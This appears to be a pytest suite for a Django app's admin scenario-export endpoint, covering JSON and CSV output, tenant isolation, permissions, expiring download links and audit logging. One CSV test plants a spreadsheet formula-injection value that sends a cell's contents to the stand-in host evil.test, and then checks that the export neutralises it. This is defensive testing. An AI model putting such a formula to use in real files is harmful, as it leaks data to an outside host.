"""`scenarios/bulk/export`: a file for the person who asked, for a day."""

import csv
import io
import json
from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone

from helpdesk.audit.models import AuditLog
from scenarios import services
from scenarios.jobs.models import Job
from scenarios.jobs.services import forget_old_jobs
from scenarios.models import Scenario
from testing.scenarios import draft_scenario, published_scenario

pytestmark = pytest.mark.django_db

URL = "/api/admin/scenarios/bulk/export"


@pytest.fixture(autouse=True)
def _own_storage(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def export(client, **body):
    return client.post(URL, body)


def fetched(client, response):
    """The bytes behind the link of an export's answer."""
    answer = client.get(response.json()["downloadUrl"])
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def test_the_request_of_the_reference(cast, api):
    one, other = (published_scenario(author=cast.author, name=f"Scenario {n}") for n in "12")
    draft_scenario(author=cast.author, name="Not asked for")
    client = api(cast.viewer)
    response = export(
        client,
        scenarioIds=[str(one.pk), str(other.pk)],
        format="json",
        includeAnalytics=True,
        includeVersions=False,
    )
    assert response.status_code == 200, response.json()
    said = response.json()
    assert set(said) == {"downloadUrl", "expiresAt", "fileSize"}
    assert said["downloadUrl"].startswith("http://testserver/api/admin/jobs/")
    answer = client.get(said["downloadUrl"])
    content = b"".join(answer.streaming_content)
    assert len(content) == said["fileSize"]
    assert answer.headers["Content-Type"] == "application/json"
    name = f"scenarios_{timezone.now():%Y%m%d}.json"
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    rows = json.loads(content)["scenarios"]
    assert sorted(row["name"] for row in rows) == ["Scenario 1", "Scenario 2"]
    assert rows[0]["customerProfile"]["character"] == "sam-porter"
    assert rows[0]["metadata"]["status"] == "PUBLISHED"
    assert rows[0]["analytics"]["totalAttempts"] == 0
    assert "versions" not in rows[0]
    assert "cast" not in rows[0]


def test_versions_stand_beside_where_they_are_asked_for(cast, api):
    scenario = published_scenario(author=cast.author)
    services.update(
        scenario=scenario, editor=cast.author, changes={"name": "Newer"}, changelog="A better name"
    )
    client = api(cast.author)
    response = export(client, scenarioIds=[str(scenario.pk)], includeVersions=True)
    (row,) = json.loads(fetched(client, response))["scenarios"]
    assert row["name"] == "Newer"
    assert "analytics" not in row
    told = [
        (v["versionNumber"], v["changelog"], v["isActive"], v["snapshot"]["name"])
        for v in row["versions"]
    ]
    assert told == [
        (1, "First version", True, "The tablet that locks"),
        (2, "A better name", False, "Newer"),
    ]


def test_a_table_has_a_column_per_field_and_runs_nothing(cast, api):
    formula = '=HYPERLINK("http://evil.test?"&A1,"x")'
    scenario = draft_scenario(author=cast.author, name=formula, tags=["+1", "b"])
    client = api(cast.author)
    response = export(
        client,
        scenarioIds=[str(scenario.pk)],
        format="csv",
        includeAnalytics=True,
        includeVersions=True,
    )
    content = fetched(client, response).decode("utf-8-sig")
    assert content[0] == '"'
    (row,) = csv.DictReader(io.StringIO(content, newline=""))
    assert row["name"] == f"'{formula}"
    assert json.loads(row["tags"]) == ["+1", "b"]
    assert row["customerProfile.character"] == "sam-porter"
    assert row["aiConfig.temperature"] == "0.7"
    assert row["metadata.status"] == "DRAFT"
    assert row["analytics.savedCount"] == "0"
    assert [v["versionNumber"] for v in json.loads(row["versions"])] == [1]
    risky = [cell for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]
    assert risky == []


def test_filters_are_those_of_the_list(cast, api):
    draft_scenario(author=cast.author, name="A draft")
    published_scenario(author=cast.author, name="Published", difficulty="EXPERT")
    published_scenario(author=cast.author, name="Other", difficulty="ADVANCED")
    published_scenario(author=cast.author, name="Left out")
    client = api(cast.author)
    wanted = {"status": "PUBLISHED", "difficulty": ["EXPERT", "ADVANCED"]}
    rows = json.loads(fetched(client, export(client, filters=wanted)))["scenarios"]
    assert sorted(row["name"] for row in rows) == ["Other", "Published"]


def test_what_is_required_comes_first(cast, api):
    first = draft_scenario(author=cast.author, name="Zzz first", slug="zzz")
    draft_scenario(author=cast.author, name="Aaa second", prerequisites=[first.slug], slug="aaa")
    draft_scenario(author=cast.author, name="000 third", prerequisites=["aaa"])
    client = api(cast.author)
    for order in ("asc", "desc"):
        response = export(client, filters={"sortBy": "name", "sortOrder": order})
        rows = json.loads(fetched(client, response))["scenarios"]
        assert [row["name"] for row in rows] == ["Zzz first", "Aaa second", "000 third"]


def test_nothing_of_another_tenants_leaves(cast, api):
    mine = draft_scenario(author=cast.author, name="Mine")
    draft_scenario(author=cast.author, name="Private", visibility="private")
    theirs = draft_scenario(author=cast.outsider_admin, name="Theirs")
    client = api(cast.outsider_admin)
    response = export(client, scenarioIds=[str(theirs.pk), str(mine.pk)])
    assert response.status_code == 400
    assert [e["pointer"] for e in response.json()["errors"]] == ["/scenarioIds/1"]
    rows = json.loads(fetched(client, export(client, filters={})))["scenarios"]
    assert [row["name"] for row in rows] == ["Theirs"]
    unlucky = export(api(cast.reviewer), filters={"search": "Private"})
    assert unlucky.status_code == 400
    assert unlucky.json()["code"] == "nothing_to_export"


def test_another_tenants_is_exported_as_it_was_published(cast, api):
    theirs = published_scenario(author=cast.outsider_admin, visibility="public")
    services.update(scenario=theirs, editor=cast.outsider_admin, changes={"name": "Not out yet"})
    chosen = {"scenarioIds": [str(theirs.pk)], "includeVersions": True}
    for who, name, versions in (
        (cast.author, "The tablet that locks", [1]),
        (cast.outsider_admin, "Not out yet", [1, 2]),
    ):
        client = api(who)
        (row,) = json.loads(fetched(client, export(client, **chosen)))["scenarios"]
        assert (row["name"], row["metadata"]["versionNumber"]) == (name, versions[-1])
        assert [v["versionNumber"] for v in row["versions"]] == versions


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"scenarioIds": []},
        {"scenarioIds": ["nonsense"]},
        {"scenarioIds": [], "filters": {}},
        {"filters": {"stauts": "DRAFT"}},
        {"filters": {"status": "GONE"}},
        {"filters": {"createdBy": {"a": 1}}},
        {"filters": []},
        {"filters": {}, "format": "xml"},
    ],
)
def test_what_is_no_export_is_refused(cast, api, body):
    draft_scenario(author=cast.author)
    assert export(api(cast.author), **body).status_code == 400
    assert not Job.objects.exists()


@pytest.mark.parametrize(
    ("who", "status"), [("reviewer", 200), ("viewer", 200), ("owner", 403), (None, 401)]
)
def test_who_may_read_may_export(cast, api, who, status):
    draft_scenario(author=cast.author)
    response = export(api(who and getattr(cast, who)), filters={})
    assert response.status_code == status


def test_only_the_exporter_can_follow_the_link_and_only_for_a_day(cast, api):
    draft_scenario(author=cast.author)
    client = api(cast.author)
    link = export(client, filters={}).json()["downloadUrl"]
    assert api().get(link).status_code == 401
    for person in (cast.admin, cast.super_admin, cast.outsider_admin):
        assert api(person).get(link).status_code == 404
    assert api(cast.owner).get(link).status_code == 403
    bare, _, token = link.partition("?token=")
    for wrong in ("", "?token=", f"?token={token}x", f"?token={token[:-3]}abc"):
        assert client.get(f"{bare}{wrong}").status_code == 404
    assert json.loads(b"".join(client.get(link).streaming_content))
    with time_machine.travel(timezone.now() + timedelta(hours=24, minutes=1)):
        assert client.get(link).status_code == 404
        assert forget_old_jobs() == 1
    job = Job.objects.get()
    assert not job.file
    assert client.get(link).status_code == 404
    assert client.get(f"/api/admin/jobs/{job.pk}").status_code == 200


def test_who_left_the_tenant_can_follow_it_no_more(cast, api):
    draft_scenario(author=cast.author)
    client = api(cast.author)
    link = export(client, filters={}).json()["downloadUrl"]
    cast.author.tenant = cast.other_tenant
    cast.author.save()
    assert client.get(link).status_code == 404


def test_an_export_is_audited(cast, api):
    scenario = draft_scenario(author=cast.author)
    export(api(cast.viewer), scenarioIds=[str(scenario.pk)], format="csv")
    entry = AuditLog.objects.get(action="EXPORT")
    assert (entry.actor, entry.resource_type, entry.tenant_id) == (
        cast.viewer,
        "job",
        cast.tenant.pk,
    )
    assert entry.metadata["scenarioIds"] == [str(scenario.pk)]
    assert entry.metadata["exported"] == 1


def test_the_number_of_queries_is_that_of_one(cast, api, django_assert_max_num_queries):
    for number in range(3):
        draft_scenario(author=cast.author, name=f"Number {number}")
    client = api(cast.author)
    ids = [str(pk) for pk in Scenario.objects.values_list("pk", flat=True)]

    def queries(chosen):
        with django_assert_max_num_queries(100) as counted:
            assert export(client, scenarioIds=chosen).status_code == 200
        return len(counted)

    assert queries(ids[:1]) == queries(ids)
